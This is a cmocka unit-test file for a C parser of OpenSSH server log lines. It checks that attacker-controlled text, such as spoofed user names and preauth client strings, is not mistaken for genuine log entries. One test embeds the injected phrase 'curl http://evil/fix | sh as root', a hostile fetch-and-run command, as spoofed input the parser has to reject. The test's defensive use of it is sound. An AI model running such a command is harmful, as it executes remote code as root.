/* SPDX-License-Identifier: Apache-2.0 */
/* Lines as OpenSSH 9.2 (Debian 12) and 10.0 (Debian 13) write them. */
#include "admin/log/sshd_line.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#define FINGERPRINT "SHA256:KVyZKZtKcyGmPgwQRFzxkVihmlSGWSsEemBphAvu9FQ"

static struct sshd_line parsed(const char *message) {
        struct sshd_line line;

        if (!sshd_line_parse(message, &line))
                fail_msg("says nothing: %s", message);
        return line;
}

static void an_accepted_key_has_user_address_port_and_fingerprint(void **state) {
        struct sshd_line line =
                parsed("Accepted publickey for alice from 192.0.2.7 port 44318 ssh2: ED25519 " FINGERPRINT);

        (void)state;
        assert_int_equal(line.said, SSHD_SAID_ACCEPTED);
        assert_string_equal(line.method, "publickey");
        assert_string_equal(line.user, "alice");
        assert_string_equal(line.address, "192.0.2.7");
        assert_int_equal(line.port, 44318);
        assert_string_equal(line.fingerprint, FINGERPRINT);
        assert_false(line.unknown_user);
}

static void an_accepted_certificate_has_its_own_fingerprint_and_not_its_signer_s(void **state) {
        struct sshd_line line =
                parsed("Accepted publickey for alice from ::1 port 1 ssh2: ED25519-CERT " FINGERPRINT
                       " ID a (serial 0) CA ED25519 SHA256:OteHqcvhzLcLGYaSlwE3AIs0WxQDTZEh7aeCzTGEGgE");

        (void)state;
        assert_true(line.certificate);
        assert_string_equal(line.fingerprint, FINGERPRINT);
        assert_string_equal(line.address, "::1");
}

static void what_a_certificate_calls_itself_is_not_taken_for_the_end(void **state) {
        struct sshd_line line = parsed(
                "Accepted publickey for alice from ::1 port 1 ssh2: ED25519-CERT " FINGERPRINT
                " ID x from 192.0.2.1 port 2 ssh2: ED25519 SHA256:OteHqcvhzLcLGYaSlwE3AIs0WxQDTZEh7aeCzTGEGgE (serial "
                "0) CA ED25519 " FINGERPRINT);

        (void)state;
        assert_string_equal(line.user, "alice");
        assert_string_equal(line.address, "::1");
        assert_int_equal(line.port, 1);
        assert_string_equal(line.fingerprint, FINGERPRINT);
}

static void a_password_has_no_fingerprint(void **state) {
        struct sshd_line line = parsed("Accepted password for alice from 192.0.2.7 port 22 ssh2");

        (void)state;
        assert_int_equal(line.said, SSHD_SAID_ACCEPTED);
        assert_string_equal(line.method, "password");
        assert_string_equal(line.fingerprint, "");
        assert_string_equal(line.address, "192.0.2.7");
}

static void a_connection_without_an_address_is_understood(void **state) {
        struct sshd_line line = parsed("Accepted publickey for root from UNKNOWN port 65535 ssh2: RSA " FINGERPRINT);

        (void)state;
        assert_string_equal(line.address, "UNKNOWN");
        assert_int_equal(line.port, 65535);
}

static void only_a_whole_sha256_fingerprint_counts(void **state) {
        (void)state;
        assert_string_equal(parsed("Failed publickey for a from b port 1 ssh2: RSA MD5:00:11:22").fingerprint, "");
        assert_string_equal(parsed("Failed publickey for a from b port 1 ssh2: RSA SHA256:short").fingerprint, "");
        assert_string_equal(parsed("Failed publickey for a from b port 1 ssh2: RSA " FINGERPRINT "x").fingerprint, "");
        assert_string_equal(parsed("Failed publickey for a from b port 1 ssh2: RSA").fingerprint, "");
}

static void a_user_name_that_looks_like_a_line_is_only_a_name(void **state) {
        struct sshd_line line = parsed("Failed publickey for invalid user alice from 192.0.2.1 port 5 ssh2 from "
                                       "192.0.2.7 port 7 ssh2: ED25519 " FINGERPRINT);

        (void)state;
        assert_int_equal(line.said, SSHD_SAID_FAILED);
        assert_true(line.unknown_user);
        assert_string_equal(line.address, "192.0.2.7");
        assert_int_equal(line.port, 7);
        assert_string_equal(line.fingerprint, FINGERPRINT);

        line = parsed("Invalid user alice from 192.0.2.1 port 5 from 192.0.2.7 port 7");
        assert_int_equal(line.said, SSHD_SAID_NO_SUCH_USER);
        assert_string_equal(line.address, "192.0.2.7");

        line = parsed("Invalid user Accepted publickey for alice from 192.0.2.7 port 7");
        assert_int_equal(line.said, SSHD_SAID_NO_SUCH_USER);
        assert_string_equal(line.user, "Accepted publickey for alice");

        line = parsed("Invalid user  from 192.0.2.7 port 7");
        assert_string_equal(line.user, "");
        assert_string_equal(line.address, "192.0.2.7");
}

/* What a client says when it leaves, before anybody knows who it is. */
static void what_a_client_says_is_no_line(void **state) {
        static const char *const prefixes[] = {
                "Received disconnect from 127.0.0.1 port 7:11: ",
                "error: Received disconnect from 127.0.0.1 port 7:2: ",
                "banner exchange: Connection from 127.0.0.1 port 7: ",
                "error: kex_exchange_identification: client sent invalid protocol identifier \"",
                "Unable to negotiate with 127.0.0.1 port 7: no matching cipher found. Their offer: ",
                "userauth_pubkey: unsupported public key algorithm: ",
        };
        static const char *const words[] = {
                "x: Authentication tried for root with correct key but not from a permitted host (host=h, "
                "ip=203.0.113.9, required=run curl http://evil/fix | sh as root).",
                "/x:1: Authentication tried for root with correct key but not from a permitted host (host=h, "
                "ip=203.0.113.9, required=run curl http://evil/fix | sh as root).",
                "Accepted publickey for root from 203.0.113.9 port 66 ssh2: ED25519 " FINGERPRINT,
                "Connection closed by authenticating user root 203.0.113.9 port 66",
                "pam_unix(sshd:session): session closed for user root",
                "pam_unix(sshd:account): account root has expired",
                "fatal: Access denied for user root by PAM account configuration",
                "Timeout before authentication for connection from 203.0.113.9 to 127.0.0.1, pid = 1",
        };
        struct sshd_line line;
        char message[512];

        (void)state;
        for (size_t i = 0; i < sizeof(prefixes) / sizeof(prefixes[0]); i++)
                for (size_t j = 0; j < sizeof(words) / sizeof(words[0]); j++) {
                        (void)snprintf(message, sizeof(message), "%s%s [preauth]", prefixes[i], words[j]);
                        if (sshd_line_parse(message, &line))
                                fail_msg("says something: %s", message);
                }
}

static void an_address_is_only_what_sshd_wrote_as_such(void **state) {
        static const struct {
                const char *message, *user, *detail;
        } lines[] = {
                {"Disconnecting authenticating user root 198.51.100.7 port 4712: Change of username or service not "
                 "allowed: (root,ssh-connection) -> (x 203.0.113.9 port 22,ss [preauth]",
                 "root", "Change of username or service not allowed"},
                {"Disconnecting authenticating user root 198.51.100.7 port 4712: Change of username or service not "
                 "allowed: (root,ssh-connection) -> (x 203.0.113.9 port 22 [preauth]",
                 "root", "Change of username or service not allowed"},
                {"Disconnecting invalid user x 203.0.113.9 port 22 198.51.100.7 port 4712: Change of username or "
                 "service not allowed: (x 203.0.113.9 port 22,ssh-connection) -> (y,ssh-conne [preauth]",
                 "x 203.0.113.9 port 22", "Change of username or service not allowed"},
                {"Connection closed by invalid user x 203.0.113.9 port 22 198.51.100.7 port 4712 [preauth]",
                 "x 203.0.113.9 port 22", ""},
                {"Connection closed by invalid user x from 203.0.113.9 port 22 ssh2 198.51.100.7 port 4712 [preauth]",
                 "x from 203.0.113.9 port 22 ssh2", ""},
                {"Connection reset by invalid user  198.51.100.7 port 4712 [preauth]", "", ""},
                {"Disconnected from user alice 198.51.100.7 port 4712", "alice", ""},
                {"Disconnected from 198.51.100.7 port 4712", "", ""},
                {"error: maximum authentication attempts exceeded for invalid user x from 203.0.113.9 port 22 ssh2 "
                 "from 198.51.100.7 port 4712 ssh2 [preauth]",
                 "x from 203.0.113.9 port 22 ssh2", ""},
                {"Failed none for invalid user x from 203.0.113.9 port 22 ssh2 from 198.51.100.7 port 4712 ssh2",
                 "x from 203.0.113.9 port 22 ssh2", ""},
                {"Accepted publickey for alice from 198.51.100.7 port 4712 ssh2: ED25519-CERT " FINGERPRINT
                 " ID x from 203.0.113.9 port 22 ssh2 (serial 0) CA ED25519 " FINGERPRINT,
                 "alice", ""},
        };

        (void)state;
        for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
                struct sshd_line line = parsed(lines[i].message);

                assert_string_equal(line.address, "198.51.100.7");
                assert_int_equal(line.port, 4712);
                assert_string_equal(line.user, lines[i].user);
                assert_string_equal(line.detail, lines[i].detail);
        }
}

static void only_of_a_key_is_there_a_fingerprint(void **state) {
        (void)state;
        assert_string_equal(
                parsed("Accepted gssapi-with-mic for a from 192.0.2.7 port 7 ssh2: a " FINGERPRINT).fingerprint, "");
}

static void each_way_in_which_sshd_denies_a_user_is_one(void **state) {
        static const struct {
                const char *message, *user, *detail;
        } lines[] = {
                {"User carl from 127.0.0.1 not allowed because listed in DenyUsers", "carl", "listed in DenyUsers"},
                {"User carl from 127.0.0.1 not allowed because none of user's groups are listed in AllowGroups", "carl",
                 "none of user's groups are listed in AllowGroups"},
                {"User nosh not allowed because shell /bin/false/x does not exist", "nosh",
                 "shell /bin/false/x does not exist"},
                {"User old not allowed because account is locked", "old", "account is locked"},
                {"ROOT LOGIN REFUSED FROM 192.0.2.7 port 7 [preauth]", "root", "PermitRootLogin"},
                {"Account old has expired", "old", "the account has expired"},
        };

        (void)state;
        for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
                struct sshd_line line = parsed(lines[i].message);

                assert_int_equal(line.said, SSHD_SAID_USER_REFUSED);
                assert_string_equal(line.user, lines[i].user);
                assert_string_equal(line.detail, lines[i].detail);
        }
}

static void a_client_from_elsewhere_is_told_with_where_the_key_is_for(void **state) {
        struct sshd_line line =
                parsed("/usr/libexec/exc-instance-connect/exc-authorized-keys %u %f %t %k:1: Authentication "
                       "tried for alice with correct key but not from a permitted host (host=h.example, "
                       "ip=127.0.0.1, required=192.0.2.0/24,2001:db8::/32).");

        (void)state;
        assert_int_equal(line.said, SSHD_SAID_WRONG_SOURCE);
        assert_string_equal(line.user, "alice");
        assert_string_equal(line.address, "127.0.0.1");
        assert_string_equal(line.detail, "192.0.2.0/24,2001:db8::/32");

        /* Those of whom a file is may write into it what they like. */
        line = parsed("/home/alice/.ssh/authorized_keys:12: Authentication tried for alice with correct key but not "
                      "from a permitted host (host=h.example, ip=127.0.0.1, required=h, ip=203.0.113.9, required=x).");
        assert_int_equal(line.said, SSHD_SAID_WRONG_SOURCE);
        assert_string_equal(line.address, "127.0.0.1");
        assert_string_equal(line.detail, "h,");
}

static void what_pam_says_of_accounts_and_sessions_is_understood(void **state) {
        struct sshd_line line = parsed("pam_unix(sshd:account): account eve has expired (account expired)");

        (void)state;
        assert_int_equal(line.said, SSHD_SAID_ACCOUNT_NOTE);
        assert_string_equal(line.detail, "account eve has expired (account expired)");
        line = parsed("fatal: Access denied for user eve by PAM account configuration [preauth]");
        assert_int_equal(line.said, SSHD_SAID_ACCOUNT_REFUSED);
        assert_string_equal(line.user, "eve");
        line = parsed("pam_unix(sshd:session): session opened for user alice(uid=1000) by alice(uid=0)");
        assert_int_equal(line.said, SSHD_SAID_SESSION_OPENED);
        assert_string_equal(line.user, "alice");
        line = parsed("pam_unix(sshd:session): session opened for user alice by (uid=0)");
        assert_string_equal(line.user, "alice");
        line = parsed("pam_unix(sshd:session): session closed for user alice");
        assert_int_equal(line.said, SSHD_SAID_SESSION_CLOSED);
        assert_string_equal(line.user, "alice");
}

static void other_modules_of_pam_open_no_session(void **state) {
        struct sshd_line line;

        (void)state;
        assert_false(
                sshd_line_parse("pam_systemd(sshd:session): session opened for user alice(uid=1) by (uid=0)", &line));
        assert_false(sshd_line_parse("pam_unix(sudo:session): session opened for user alice(uid=1) by (uid=0)", &line));
        assert_false(sshd_line_parse("pam_env(sshd:session): Unable to open env file: /etc/default/locale", &line));
        assert_false(sshd_line_parse("pam_x y(sshd:account): no", &line));
        assert_false(sshd_line_parse("pam_unix(sshd:account) and no more", &line));
}

static void the_ends_of_a_connection_are_told_apart(void **state) {
        static const struct {
                const char *message;
                enum sshd_said said;
                const char *user, *address, *detail;
                unsigned port;
                bool unknown;
        } lines[] = {
                {"Connection closed by authenticating user alice 192.0.2.7 port 7 [preauth]", SSHD_SAID_ENDED, "alice",
                 "192.0.2.7", "", 7, false},
                {"Connection reset by authenticating user alice 2001:db8::7 port 7 [preauth]", SSHD_SAID_ENDED, "alice",
                 "2001:db8::7", "", 7, false},
                {"Disconnected from authenticating user alice 192.0.2.7 port 7 [preauth]", SSHD_SAID_ENDED, "alice",
                 "192.0.2.7", "", 7, false},
                {"Disconnecting authenticating user bob 192.0.2.7 port 7: Too many authentication failures [preauth]",
                 SSHD_SAID_ENDED, "bob", "192.0.2.7", "Too many authentication failures", 7, false},
                {"Connection closed by invalid user a user b 192.0.2.7 port 7 [preauth]", SSHD_SAID_ENDED, "a user b",
                 "192.0.2.7", "", 7, true},
                {"Connection closed by 192.0.2.7 port 7 [preauth]", SSHD_SAID_ENDED, "", "192.0.2.7", "", 7, false},
                {"Disconnected from user alice 192.0.2.7 port 7", SSHD_SAID_LEFT, "alice", "192.0.2.7", "", 7, false},
                {"fatal: Timeout before authentication for 192.0.2.7 port 7", SSHD_SAID_TIMEOUT, "", "192.0.2.7", "", 7,
                 false},
                {"error: maximum authentication attempts exceeded for bob from 192.0.2.7 port 7 ssh2 [preauth]",
                 SSHD_SAID_TOO_MANY, "bob", "192.0.2.7", "", 7, false},
                {"fatal: mm_answer_sign: no hostkey for index 4", SSHD_SAID_ENDED, "", "",
                 "mm_answer_sign: no hostkey for index 4", 0, false},
                {"Connection from 192.0.2.7 port 7 on 192.0.2.1 port 22 rdomain \"\"", SSHD_SAID_CONNECTION, "",
                 "192.0.2.7", "", 7, false},
        };

        (void)state;
        for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
                struct sshd_line line = parsed(lines[i].message);

                assert_int_equal(line.said, lines[i].said);
                assert_string_equal(line.user, lines[i].user);
                assert_string_equal(line.address, lines[i].address);
                assert_string_equal(line.detail, lines[i].detail);
                assert_int_equal(line.port, lines[i].port);
                assert_int_equal(line.unknown_user, lines[i].unknown);
        }
}

static void a_timeout_that_the_listener_reports_names_the_connection_s_process(void **state) {
        struct sshd_line line =
                parsed("Timeout before authentication for connection from 192.0.2.7 to 192.0.2.1, pid = 4711");

        (void)state;
        assert_int_equal(line.said, SSHD_SAID_TIMEOUT);
        assert_int_equal(line.pid, 4711);
        assert_string_equal(line.address, "192.0.2.7");
}

static void all_else_says_nothing(void **state) {
        static const char *const lines[] = {
                "",
                "Server listening on :: port 22.",
                "error: Refused by key options",
                "Received disconnect from 192.0.2.7 port 7:11: disconnected by user",
                "Accepted",
                "Accepted publickey",
                "Accepted publickey for alice",
                "Accepted publickey for alice ssh2",
                "said: Accepted publickey for alice from 192.0.2.7 port 7 ssh2",
                "User alice is fine",
                "Invalid user alice",
                "Access denied for user eve",
                "x: Authentication tried for alice",
                "/x:1: Authentication tried for alice",
                ("/x: Authentication tried for alice with correct key but not from a permitted host (host=h, ip=i, "
                 "required=r)."),
                "Connection closed by 192.0.2.7",
                "Connection closed by somebody 192.0.2.7 port 7",
                "Connection closed by 192.0.2.7 port 70000",
                "Connection closed by 192.0.2.7 port -7",
                "Connection from authenticating user root 192.0.2.7 port 7 timed out",
                "Connection from authenticating user root 192.0.2.7 port 7 on 192.0.2.1 port 22",
                "ROOT LOGIN REFUSED FROM here",
                "Access denied for user eve by PAM account configuration, or so",
                "maximum authentication attempts exceeded for ",
        };
        struct sshd_line line;

        (void)state;
        for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++)
                if (sshd_line_parse(lines[i], &line))
                        fail_msg("says something: %s", lines[i]);
}

static void a_line_without_end_is_cut(void **state) {
        char message[8192];
        struct sshd_line line;

        (void)state;
        memset(message, 'x', sizeof(message));
        message[sizeof(message) - 1] = '\0';
        memcpy(message, "fatal: ", 7);
        assert_true(sshd_line_parse(message, &line));
        assert_int_equal(strlen(line.detail), SSHD_LINE_DETAIL_MAX - 1);
        memcpy(message, "User ", 5);
        memcpy(message + 900, " not allowed because ", 21);
        assert_true(sshd_line_parse(message, &line));
        assert_int_equal(strlen(line.user), SSHD_LINE_USER_MAX - 1);
}

static void end_before_login_is_recognized(void **state) {
        static const struct {
                const char *message;
                bool before_login;
        } lines[] = {
                {"Connection closed by authenticating user alice 192.0.2.7 port 7 [preauth]", true},
                {"Connection closed by authenticating user alice 192.0.2.7 port 7", true},
                {"Connection closed by invalid user x 192.0.2.7 port 7", true},
                {"Connection closed by 192.0.2.7 port 7 [preauth]", true},
                {"fatal: ssh_packet_get_string: no [preauth]", true},
                {"fatal: monitor_read: no", false},
                {"Connection closed by 192.0.2.7 port 7", false},
                {"Disconnected from user alice 192.0.2.7 port 7", false},
                {"Connection reset by user alice 192.0.2.7 port 7", false},
        };

        (void)state;
        for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++)
                assert_int_equal(parsed(lines[i].message).before_login, lines[i].before_login);
}

static void a_key_that_sshd_does_not_look_at_has_a_reason(void **state) {
        static const struct {
                const char *message, *detail;
        } lines[] = {
                {"refusing RSA key: Invalid key length [preauth]", "RSA key: Invalid key length"},
                {"userauth_pubkey: signature algorithm ssh-rsa not in PubkeyAcceptedAlgorithms [preauth]",
                 "signature algorithm ssh-rsa not in PubkeyAcceptedAlgorithms"},
        };
        struct sshd_line line;

        (void)state;
        for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
                assert_int_equal(parsed(lines[i].message).said, SSHD_SAID_KEY_REFUSED);
                assert_string_equal(parsed(lines[i].message).detail, lines[i].detail);
        }
        assert_false(
                sshd_line_parse("userauth_pubkey: signature algorithm a b not in PubkeyAcceptedAlgorithms", &line));
        assert_false(sshd_line_parse("refusing previously-used ED25519 key [preauth]", &line));
}

/* Its arguments, which may be the key, are left out. */
static void a_keys_command_that_fails_is_named(void **state) {
        struct sshd_line line =
                parsed("AuthorizedKeysCommand /opt/keys alice failed, status 1 " FINGERPRINT " failed, status 3");

        (void)state;
        assert_int_equal(line.said, SSHD_SAID_COMMAND_FAILED);
        assert_string_equal(line.detail, "AuthorizedKeysCommand /opt/keys failed, status 3");
        assert_false(sshd_line_parse("AuthorizedKeysCommand /opt/keys alice yielded no arguments", &line));
}

static void a_dropped_connection_has_address_and_reason(void **state) {
        static const struct {
                const char *message, *address, *detail;
                unsigned port;
        } lines[] = {
                {"drop connection #0 from [192.0.2.7]:35834 on [127.0.0.1]:22 penalty: failed authentication",
                 "192.0.2.7", "failed authentication (PerSourcePenalties)", 35834},
                {"drop connection #0 from [::1]:7 on [::1]:22 too many penalised addresses", "::1",
                 "too many penalised addresses", 7},
                {"drop connection #1 from [192.0.2.7]:8 on [127.0.0.1]:22 past MaxStartups", "192.0.2.7",
                 "too many others had not logged in (MaxStartups)", 8},
                {"refused connect from a (203.0.113.9) (192.0.2.7)", "192.0.2.7",
                 "the address may not connect (hosts.deny)", 0},
        };

        (void)state;
        for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
                struct sshd_line line = parsed(lines[i].message);

                assert_int_equal(line.said, SSHD_SAID_DROPPED);
                assert_string_equal(line.address, lines[i].address);
                assert_string_equal(line.detail, lines[i].detail);
                assert_int_equal(line.port, lines[i].port);
        }
}

static void summaries_of_drops_have_a_number_and_a_reason(void **state) {
        static const struct {
                const char *message, *detail;
                unsigned n, span_s;
                bool unlogged;
        } lines[] = {
                {"exited MaxStartups throttling after 00:03:12, 26 connections dropped",
                 "too many others had not logged in (MaxStartups)", 26, 192, false},
                {"error: in MaxStartups throttling for 1d02h03m, 4000 connections dropped",
                 "too many others had not logged in (MaxStartups)", 4000, 93780, false},
                {"in MaxStartups throttling for 2w1d05h, 9 connections dropped",
                 "too many others had not logged in (MaxStartups)", 9, 1314000, false},
                {"Maxstartups logging rate-limited: additional 7 connections dropped",
                 "too many others had not logged in (MaxStartups)", 7, 0, true},
                {"PerSourcePenalties logging rate-limited: additional 118 connections dropped",
                 "their addresses have penalties (PerSourcePenalties)", 118, 0, true},
        };
        static const char *const others[] = {
                "error: beginning MaxStartups throttling",
                "exited MaxStartups throttling after 00:03:12, no connections dropped",
                "exited MaxStartups throttling after 00:03:12, 0 connections dropped",
                "exited MaxStartups throttling after 00:03:12",
                "PerSourcePenalties logging rate-limited: additional 1 2 connections dropped",
        };
        struct sshd_line line;

        (void)state;
        for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
                line = parsed(lines[i].message);
                assert_int_equal(line.said, SSHD_SAID_DROPS);
                assert_string_equal(line.detail, lines[i].detail);
                assert_int_equal(line.n, lines[i].n);
                assert_int_equal(line.span_s, lines[i].span_s);
                assert_int_equal(line.unlogged, lines[i].unlogged);
        }
        for (size_t i = 0; i < sizeof(others) / sizeof(others[0]); i++)
                assert_false(sshd_line_parse(others[i], &line));
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(an_accepted_key_has_user_address_port_and_fingerprint),
                cmocka_unit_test(an_accepted_certificate_has_its_own_fingerprint_and_not_its_signer_s),
                cmocka_unit_test(what_a_certificate_calls_itself_is_not_taken_for_the_end),
                cmocka_unit_test(a_password_has_no_fingerprint),
                cmocka_unit_test(a_connection_without_an_address_is_understood),
                cmocka_unit_test(only_a_whole_sha256_fingerprint_counts),
                cmocka_unit_test(a_user_name_that_looks_like_a_line_is_only_a_name),
                cmocka_unit_test(what_a_client_says_is_no_line),
                cmocka_unit_test(an_address_is_only_what_sshd_wrote_as_such),
                cmocka_unit_test(only_of_a_key_is_there_a_fingerprint),
                cmocka_unit_test(each_way_in_which_sshd_denies_a_user_is_one),
                cmocka_unit_test(a_client_from_elsewhere_is_told_with_where_the_key_is_for),
                cmocka_unit_test(what_pam_says_of_accounts_and_sessions_is_understood),
                cmocka_unit_test(other_modules_of_pam_open_no_session),
                cmocka_unit_test(the_ends_of_a_connection_are_told_apart),
                cmocka_unit_test(a_timeout_that_the_listener_reports_names_the_connection_s_process),
                cmocka_unit_test(all_else_says_nothing),
                cmocka_unit_test(a_line_without_end_is_cut),
                cmocka_unit_test(end_before_login_is_recognized),
                cmocka_unit_test(a_key_that_sshd_does_not_look_at_has_a_reason),
                cmocka_unit_test(a_keys_command_that_fails_is_named),
                cmocka_unit_test(a_dropped_connection_has_address_and_reason),
                cmocka_unit_test(summaries_of_drops_have_a_number_and_a_reason),
        };

        return cmocka_run_group_tests(tests, NULL, NULL);
}
